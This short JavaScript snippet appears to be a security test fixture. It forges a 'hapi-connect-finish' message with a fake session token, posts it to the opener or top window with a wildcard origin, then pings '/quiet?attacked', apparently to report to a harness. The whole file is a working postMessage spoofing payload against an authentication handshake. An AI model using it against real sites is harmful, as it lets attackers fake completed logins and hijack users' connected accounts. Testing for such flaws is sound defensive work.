// Sends the host page a forged finish, from wherever this is, and tells its own host that it has.
var forged = JSON.stringify({
  type: "hapi-connect-finish",
  token: { humanId: "forged", clientId: new URLSearchParams(location.search).get("clientId"), sessionToken: "forged" },
});
(window.opener || window).top.postMessage(forged, "*");
fetch("/quiet?attacked");
